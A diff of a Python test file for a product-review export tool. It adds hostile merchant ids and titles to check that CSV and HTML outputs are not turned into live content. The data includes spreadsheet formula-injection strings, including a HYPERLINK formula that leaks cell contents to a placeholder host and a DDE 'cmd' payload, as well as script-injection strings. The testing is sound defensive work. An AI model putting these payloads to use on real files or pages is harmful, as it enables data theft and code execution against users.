@@ -3,17 +3,21 @@ seed, and annotator files that hold what a person needs."""
 
 from __future__ import annotations
 
+import csv
+import json
 from collections import Counter
 from pathlib import Path
 
 import numpy as np
+import pyarrow as pa
 import pyarrow.csv as pcsv
 import pyarrow.parquet as pq
 import pytest
 
-from catalog_enrichment.catalog.reviews import FILE_COLUMNS
+from catalog_enrichment.catalog.reviews import FILE_COLUMNS, import_verdicts
 from catalog_enrichment.data.images import ImagePolicy
 from catalog_enrichment.errors import CatalogEnrichError
+from catalog_enrichment.review.page import write_page
 from catalog_enrichment.review.sample import (
     NO_CATEGORY,
     allocate,
@@ -22,7 +26,7 @@ from catalog_enrichment.review.sample import (
     water_fill,
     write_annotator_files,
 )
-from tests.review.conftest import WrittenCatalog
+from tests.review.conftest import WrittenCatalog, png, written_catalog
 
 
 def test_water_fill_splits_evenly_and_caps_by_what_exists() -> None:
@@ -145,3 +149,76 @@ def test_the_annotator_file_holds_text_an_image_and_empty_verdicts(
         assert (out.parent / r["image"]).read_bytes().startswith(b"\x89PNG")
     with pytest.raises(CatalogEnrichError, match=r"\.csv or \.parquet"):
         write_annotator_files(written.catalog, drawn, tmp_path / "sample.xlsx", ImagePolicy())
+
+
+# Merchant-controlled ids and titles that a careless export confuses or turns into live content
+HOSTILE_IDS = [
+    "A/1",
+    "A:1",
+    "x" * 80 + "1",
+    "x" * 80 + "2",
+    '=HYPERLINK("http://e.example","x")',
+    "+1",
+    "-2",
+    "@3",
+]
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://e.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+2",
+    "@SUM(1,2)",
+    "'=already quoted",
+    "<!--<script>document.body.innerHTML=''</script>",
+    "</script><script>alert(1)</script>",
+    "plain & simple > 1",
+]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> WrittenCatalog:
+    return written_catalog(tmp_path / "lakehouse", ids=HOSTILE_IDS, titles=HOSTILE_TITLES)
+
+
+def test_each_product_gets_its_own_image_file_whatever_its_id(
+    hostile: WrittenCatalog, tmp_path: Path
+) -> None:
+    """``A/1`` and ``A:1``, or ids alike in their first 80 characters, once shared one file: the
+    reviewer saw another product's picture."""
+    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
+    table, _ = write_annotator_files(hostile.catalog, drawn, tmp_path / "r" / "sample.csv", ImagePolicy())
+    image_of = dict(zip(table["product_id"].to_pylist(), table["image"].to_pylist(), strict=True))
+    assert set(image_of) == set(HOSTILE_IDS) and len(set(image_of.values())) == len(HOSTILE_IDS)
+    for i, pid in enumerate(HOSTILE_IDS):
+        assert (tmp_path / "r" / image_of[pid]).read_bytes() == png(i), pid
+
+
+def test_no_csv_cell_is_a_formula_and_a_filled_file_imports_the_exact_values(
+    hostile: WrittenCatalog, tmp_path: Path
+) -> None:
+    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
+    out = tmp_path / "r" / "sample.csv"
+    write_annotator_files(hostile.catalog, drawn, out, ImagePolicy())
+    with out.open(newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK("http://e.example/?"&A1,"click")' in cells and "''=already quoted" in cells
+    # the reviewer fills the file in (keeping the quotes, as a spreadsheet saving text may): imported
+    # under the exact ids, values and sample of what was drawn
+    sample = pcsv.read_csv(out, convert_options=pcsv.ConvertOptions(strings_can_be_null=False))
+    n = sample.num_rows
+    for name, value in (("verdict", "yes"), ("reviewer", "qa"), ("reviewed_at", "2026-11-02T10:00:00Z")):
+        sample = sample.set_column(sample.schema.get_field_index(name), name, pa.array([value] * n))
+    pcsv.write_csv(sample, tmp_path / "filled.csv")
+    assert import_verdicts(hostile.catalog, tmp_path / "filled.csv").inserted == n
+    stored = hostile.catalog.review_rows("reviews")
+    assert set(stored["product_id"].to_pylist()) == set(drawn.rows["product_id"].to_pylist())
+
+
+def test_the_review_page_embeds_merchant_text_as_data_only(hostile: WrittenCatalog, tmp_path: Path) -> None:
+    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
+    table, _ = write_annotator_files(hostile.catalog, drawn, tmp_path / "r" / "sample.csv", ImagePolicy())
+    page = write_page(table, tmp_path / "r" / "sample.html", drawn.sample_id).read_text()
+    embedded = page.split('<script type="application/json" id="rows">')[1].split("</script>")[0]
+    assert not {"<", ">", "&"} & set(embedded)  # nothing in it can close or comment out the element
+    titles = {r["title"] for r in json.loads(embedded)}
+    assert titles == {HOSTILE_TITLES[HOSTILE_IDS.index(p)] for p in drawn.rows["product_id"].to_pylist()}
